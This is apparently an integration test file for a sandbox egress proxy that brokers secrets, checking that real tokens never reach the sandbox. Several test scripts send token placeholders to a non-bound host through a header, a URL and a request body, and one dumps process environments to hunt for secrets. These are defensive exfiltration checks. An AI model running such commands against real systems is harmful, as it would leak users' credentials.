import { execFile } from "node:child_process";
import { randomBytes, randomUUID } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import Docker from "dockerode";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createAddressGuard } from "../../../agent-host/egress/address-guard.ts";
import { createEgressProxy, type EgressProxy } from "../../../agent-host/egress/egress-proxy.ts";
import type { EgressRecord } from "../../../agent-host/egress/egress-record.ts";
import { createRunEgressOpener, type RunEgress } from "../../../agent-host/egress/run-egress.ts";
import { EGRESS_PRELUDE } from "../../../agent-host/egress/sandbox-egress-env.ts";
import { DockerDriver } from "../../../agent-host/sandbox/container/docker-driver.ts";
import type { CreateResult, SandboxDriver } from "../../../agent-host/sandbox/driver.ts";
import { LABEL } from "../../../agent-host/sandbox/instance/container-labels.ts";
import { sandboxHandle } from "../../../agent-host/sandbox/sandbox-handle.ts";
import { generateDeploymentCa } from "../../../agent-host/secrets/deployment-ca.ts";
import { type NodeSecrets, prepareNodeSecrets } from "../../../agent-host/secrets/node-secrets.ts";
import { RUNTIME_CA_BUNDLE } from "../../../agent-host/secrets/secrets-env.ts";
import { createDb, type Db } from "../../../shared/db/client.ts";
import { DEFAULT_RUNTIME_ASSETS_DIR } from "../../../shared/env/agent-host-env.ts";
import { NO_NETWORK } from "../../../shared/network/network-policy.ts";
import {
  findNetworkCeiling,
  putNetworkOverride,
} from "../../../shared/network/network-policy-store.ts";
import { createEnvKeyWrapper, type KeyWrapper } from "../../../shared/secrets/secret-envelope.ts";
import { deleteSecret, putSecret } from "../../../shared/secrets/secret-store.ts";
import { type DataRoot, freshDataRoot } from "../../support/data-root.ts";
import { removeContainersLabelled } from "../../support/docker.ts";
import { type FakeInternet, startFakeInternet } from "../../support/fake-internet.ts";
import { captureLogs } from "../../support/log-capture.ts";
import { freshDatabase, type TestDatabase } from "../../support/postgres.ts";
import { type ProcessTierFixture, processTierFixture } from "../../support/process-tier.ts";
import {
  materializeWorkdir,
  silentLogger,
  testConfig,
  uniqueNodeId,
} from "../sandbox/sandbox-fixture.ts";

// Secrets that never enter the sandbox (issue #35, decisions 0132-0134), in real bubblewrap
// sandboxes and Docker containers with the real Runtime Assets (curl, git), against the
// fake internet: the sandbox holds a placeholder, the node's proxy swaps the value in
// towards bound hosts only (terminating TLS with the deployment CA, verifying the real
// upstream), and refuses the placeholder anywhere else.

const run = promisify(execFile);
const treeDir = process.env.RUNTIME_ASSETS_DIR ?? DEFAULT_RUNTIME_ASSETS_DIR;
const signal = () => AbortSignal.timeout(120_000);
const logs = captureLogs("debug");

let net: FakeInternet;
let database: TestDatabase;
let db: Db;
let dataRoot: DataRoot;
let keys: KeyWrapper;
let node: NodeSecrets;
let proxy: EgressProxy;
let gitDir: string;
const records: EgressRecord[] = [];
/** Every real value used here: none may appear in anything the sandbox or the node produced. */
const values: string[] = [];

const n = (label: string) => net.name(label);
const newValue = () => {
  const value = `ghp_${randomBytes(20).toString("hex")}`;
  values.push(value);
  return value;
};

async function gitRepository(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), "wc-secret-git-"));
  const git = (...args: string[]) => run("git", args, { cwd: dir, timeout: 30_000 });
  await git("init", "-q", "work");
  await writeFile(join(dir, "work", "README"), "cloned with a brokered token\n");
  await git("-C", "work", "add", "README");
  await git("-C", "work", "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "init");
  await git("clone", "-q", "--bare", "work", "repo.git");
  await git("-C", "repo.git", "update-server-info");
  return dir;
}

const bearerSecret = (value: string, extraHosts: string[] = []) => ({
  value,
  hosts: [n("api"), n("git"), `${n("api")}:8443`, ...extraHosts],
  header: "Authorization",
  template: "Bearer {value}",
});

beforeAll(async () => {
  gitDir = await gitRepository();
  net = await startFakeInternet({ staticDir: gitDir });
  database = await freshDatabase();
  db = createDb(database.sql);
  dataRoot = await freshDataRoot();
  await net.addHosts(["api", "git", "other", "allowed"].map((l) => [n(l), net.address] as const));
  for (const uid of ["alice", "bob"]) {
    await putNetworkOverride(db, uid, {
      mode: "allowlist",
      allow: [n("api"), n("git"), n("other"), n("allowed"), `${n("api")}:8443`],
    });
    await materializeWorkdir(dataRoot.path, uid, "work");
  }
  keys = createEnvKeyWrapper(randomBytes(32));
  await putSecret(db, keys, "alice", "GITHUB_TOKEN", bearerSecret(newValue()));
  await putSecret(db, keys, "bob", "GITHUB_TOKEN", bearerSecret(newValue()));
  node = prepareNodeSecrets(db, {
    keys,
    ca: await generateDeploymentCa("Workcell test egress CA"),
    runtimeBundle: await readFile(join(treeDir, RUNTIME_CA_BUNDLE), "utf8"),
    // The fake internet's :443 certificate, as if a public CA had issued it.
    extraUpstreamCa: [await readFile(net.certPath, "utf8")],
  });
  proxy = createEgressProxy({
    ceiling: (uid) => findNetworkCeiling(db, uid, NO_NETWORK),
    guard: createAddressGuard(),
    audit: (record) => records.push(record),
    interception: node.interception,
  });
}, 180_000);

afterAll(async () => {
  await proxy?.close();
  await net?.close();
  await database?.drop();
  await dataRoot?.remove();
  await rm(gitDir, { recursive: true, force: true });
});

describe.each(["process", "container"] as const)("brokered secrets (%s tier)", (tier) => {
  let fixture: ProcessTierFixture | undefined;
  let driver: SandboxDriver;
  let egressRoot: string;
  const nodeId = uniqueNodeId();
  const refs: Record<string, CreateResult> = {};

  beforeAll(async () => {
    const manifest = JSON.parse(await readFile(join(treeDir, "../manifest.json"), "utf8")) as {
      key: string;
    };
    const config = testConfig(`workcell-sandbox:${manifest.key}`, {
      memoryBytes: 512 * 1024 * 1024,
    });
    egressRoot = join(dataRoot.path, `egress-${tier}`);
    if (tier === "process") {
      fixture = await processTierFixture({
        dataRoot: dataRoot.path,
        config,
        logger: silentLogger,
        runtimeDir: treeDir,
      });
      driver = fixture.driver;
    } else {
      driver = new DockerDriver({
        docker: new Docker(),
        logger: silentLogger,
        dataRoot: dataRoot.path,
        nodeId,
        config,
        runtimeDir: treeDir,
        egressRoot,
      });
    }
    for (const uid of ["alice", "bob"]) {
      refs[uid] = await driver.create(
        {
          sandboxId: `secret${tier.slice(0, 4)}${uid}`,
          generation: 1,
          uid,
          runtimeScopeId: randomUUID(),
          workdirPath: "work",
          nodeId,
        },
        signal(),
      );
    }
  }, 180_000);

  afterAll(async () => {
    await fixture?.cleanup();
    if (tier === "container") await removeContainersLabelled(new Docker(), LABEL.nodeId, nodeId);
  });

  function container(uid: string) {
    const ref = refs[uid];
    if (ref === undefined || !ref.ok)
      throw new Error(`no sandbox for ${uid}: ${JSON.stringify(ref)}`);
    return ref.instance;
  }

  /** The run's egress as the worker opens it (run-egress.ts), with the node's secrets. */
  async function withRun<T>(uid: string, use: (egress: RunEgress) => Promise<T>): Promise<T> {
    const c = container(uid);
    const open = createRunEgressOpener({
      db,
      logger: logs.logger,
      networkDefault: NO_NETWORK,
      proxy,
      processStateDir: fixture?.stateDir,
      containerEgressRoot: egressRoot,
      bytesPerRun: 50_000_000,
      policyTimeoutMs: 10_000,
      secrets: { source: node.source, caBundle: node.caBundle },
    });
    const egress = await open(
      {
        uid,
        runId: randomUUID(),
        agent: {},
        handle: sandboxHandle({
          ...c,
          uid,
          runtimeScopeId: randomUUID(),
          workdirPath: "work",
          nodeId,
          fileView: "workspace",
        }),
      },
      signal(),
    );
    if (egress === undefined) throw new Error("no egress for the run");
    try {
      return await use(egress);
    } finally {
      await egress.close();
    }
  }

  async function sh(uid: string, script: string, env: Record<string, string>) {
    const out = await driver.exec(
      container(uid),
      { cmd: ["/runtime/usr/bin/bash", "-c", EGRESS_PRELUDE + script], env },
      signal(),
    );
    if (!out.ok) throw new Error("sandbox gone");
    return {
      code: out.result.exitCode,
      out: out.result.stdout.bytes.toString(),
      err: out.result.stderr.bytes.toString(),
    };
  }

  const curlBearer = (url: string, extra = "") =>
    `curl -sS --max-time 20 ${extra} -H "Authorization: Bearer $GITHUB_TOKEN" -o /dev/null -w '%{http_code}\\n' ${url} 2>&1 || true`;

  test("curl with a bearer header over HTTPS to a bound host: the server gets the value, the sandbox only ever held a placeholder", async () => {
    await net.resetSeen();
    const r = await withRun("alice", (egress) =>
      sh(
        "alice",
        [
          curlBearer(`https://${n("api")}/whoami`),
          'echo "token=$GITHUB_TOKEN"',
          // Everything the sandbox can see of itself, written to its Workdir and printed.
          "{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; } > ./seen-inside.txt",
          "cat ./seen-inside.txt",
        ].join("\n"),
        egress.env,
      ),
    );
    const lines = r.out.split("\n");
    expect(lines[0], r.err).toBe("200");
    expect(lines[1]).toMatch(/^token=wcs_[0-9a-f]{40}$/);
    const [hit] = (await net.seen()).filter((s) => s.path === "/whoami");
    expect(hit).toMatchObject({ port: 443, host: n("api"), auth: `Bearer ${values[0]}` });
    // Zero hits for any value: its output, every file of its Workdir, the proxy's records
    // (the run's network.request events), the node's log lines.
    // Every file the sandbox could write or read from the host side: the Workdirs, the
    // generations' state (the process tier's /tmp), the egress directories.
    const dirs = [join(dataRoot.path, "users"), egressRoot, fixture?.stateDir].filter(
      (dir): dir is string => dir !== undefined && existsSync(dir),
    );
    expect(dirs.length).toBeGreaterThan(1);
    // grep exits 1 when nothing matched (what we want), 0 with the files that hold it.
    const workdirFiles = await run(
      "grep",
      ["-rlF", "-D", "skip", "--exclude=userns", values[0] ?? "?", ...dirs],
      {
        timeout: 30_000,
      },
    ).then(
      (found) => found.stdout,
      (error: { code?: number; stdout?: string; stderr?: string }) =>
        error.code === 1
          ? ""
          : `grep failed: ${error.code} ${error.stdout ?? ""} ${error.stderr ?? ""}`,
    );
    for (const value of values) {
      expect(r.out + r.err).not.toContain(value);
      expect(JSON.stringify(records)).not.toContain(value);
      expect(logs.raw.join("\n")).not.toContain(value);
    }
    expect(workdirFiles).toBe("");
    expect(r.out).toContain("seen-inside");
  });

  test("git clone https://x-access-token:$TOKEN@… works: the basic-auth password is swapped", async () => {
    await net.expectToken(values[0] ?? "?");
    const r = await withRun("alice", (egress) =>
      sh(
        "alice",
        `d=$(mktemp -d) && git clone -q "https://x-access-token:$GITHUB_TOKEN@${n("git")}/private/repo.git" "$d/c" 2>&1 && cat "$d/c/README"`,
        egress.env,
      ),
    );
    expect(r.out.trim(), r.err).toBe("cloned with a brokered token");
    // Without the swap the server refuses (proof that the fixture checks the token).
    const plain = await withRun("alice", (egress) =>
      sh(
        "alice",
        `git ls-remote "https://x-access-token:wcs_not_mine@${n("git")}/private/repo.git" >/dev/null 2>&1 && echo listed || echo refused`,
        { ...egress.env, GIT_TERMINAL_PROMPT: "0" },
      ),
    );
    expect(plain.out.trim()).toBe("refused");
  });

  test("the placeholder towards another allowed host, in a header, the URL or a body: 403 secret_exfiltration, audited, the host received nothing", async () => {
    await net.resetSeen();
    const before = records.length;
    const r = await withRun("alice", (egress) =>
      sh(
        "alice",
        [
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Leak: $GITHUB_TOKEN" http://${n("other")}/h`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' "http://${n("other")}/u?t=$GITHUB_TOKEN"`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' --data "t=$GITHUB_TOKEN" http://${n("other")}/b`,
          // Over HTTP to a bound host too, in a header the template does not name: refused? No:
          // a bound host may see its own placeholder (it gets nothing from it); another host may not.
        ].join("\n"),
        egress.env,
      ),
    );
    expect(r.out.trim().split("\n"), r.err).toEqual(["403", "403", "403"]);
    expect(await net.seen()).toEqual([]);
    const refused = records.slice(before).filter((rec) => rec.reason === "secret_exfiltration");
    expect(refused.map((rec) => [rec.host, rec.decision])).toEqual([
      [n("other"), "denied"],
      [n("other"), "denied"],
      [n("other"), "denied"],
    ]);
  });

  test("a placeholder of an earlier generation or of another user's sandbox is not swapped", async () => {
    const old = await withRun("alice", async (egress) => egress.env.GITHUB_TOKEN ?? "");
    const bobs = await withRun("bob", async (egress) => egress.env.GITHUB_TOKEN ?? "");
    expect(old).toMatch(/^wcs_/);
    expect(bobs).toMatch(/^wcs_/);
    await net.resetSeen();
    const r = await withRun("alice", (egress) => {
      expect(egress.env.GITHUB_TOKEN).not.toBe(old);
      return sh(
        "alice",
        [old, bobs]
          .map(
            (p) =>
              `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer ${p}" https://${n("api")}/stale`,
          )
          .join("\n"),
        egress.env,
      );
    });
    expect(r.out.trim().split("\n"), r.err).toEqual(["200", "200"]);
    const got = (await net.seen()).map((s) => s.auth);
    expect(got).toEqual([`Bearer ${old}`, `Bearer ${bobs}`]);
  });

  test("an upstream with an untrusted certificate for a bound host fails the request: nothing is sent", async () => {
    await net.resetSeen();
    const r = await withRun("alice", (egress) =>
      sh("alice", curlBearer(`https://${n("api")}:8443/impostor`, "-i"), egress.env),
    );
    expect(r.out.trim(), r.err).toBe("502");
    expect((await net.seen()).filter((s) => s.port === 8443)).toEqual([]);
    expect(records.at(-1)).toMatchObject({
      host: n("api"),
      port: 8443,
      reason: "upstream_untrusted",
    });
  });

  test("hosts no secret binds stay end-to-end tunnels; replacing and deleting a secret apply to the next request", async () => {
    const fakeCa = await readFile(net.certPath, "utf8");
    const next = newValue();
    await net.resetSeen();
    const r = await withRun("alice", async (egress) => {
      const env = { ...egress.env, FAKE_CA: fakeCa };
      const ask = (path: string) =>
        sh(
          "alice",
          curlBearer(
            `https://${n("api")}${path}`,
            '--cacert <(printf "%s\\n" "$FAKE_CA"; cat "$SSL_CERT_FILE")',
          ),
          env,
        );
      // Unbound: the deployment CA is not what answers (the sandbox trusts only it and the public roots).
      const tunnel = await sh(
        "alice",
        `curl -sS -o /dev/null https://${n("allowed")}/ 2>/dev/null; echo "exit=$?"; curl -sS -o /dev/null -w '%{http_code}\\n' --cacert <(printf '%s\\n' "$FAKE_CA") https://${n("allowed")}/tunnel`,
        env,
      );
      const first = await ask("/first");
      await putSecret(db, keys, "alice", "GITHUB_TOKEN", bearerSecret(next));
      const replaced = await ask("/replaced");
      await deleteSecret(db, "alice", "GITHUB_TOKEN");
      const deleted = await ask("/deleted");
      return { tunnel, first, replaced, deleted, placeholder: egress.env.GITHUB_TOKEN };
    });
    await putSecret(db, keys, "alice", "GITHUB_TOKEN", bearerSecret(values[0] ?? "?"));
    const tunnelLines = r.tunnel.out.trim().split("\n");
    // curl 60: the peer's certificate is not trusted (it is the real server's, not a leaf of ours).
    expect(tunnelLines[0]).toBe("exit=60");
    expect(tunnelLines[1]).toBe("200");
    expect([r.first.out, r.replaced.out, r.deleted.out].map((o) => o.trim())).toEqual([
      "200",
      "200",
      "200",
    ]);
    const seen = await net.seen();
    const auth = (path: string) => seen.find((s) => s.path === path)?.auth;
    expect(auth("/first")).toBe(`Bearer ${values[0]}`);
    expect(auth("/replaced")).toBe(`Bearer ${next}`);
    // Deleted: the host is no longer bound, the tunnel is end to end, the placeholder stays one.
    expect(auth("/deleted")).toBe(`Bearer ${r.placeholder}`);
  });
});
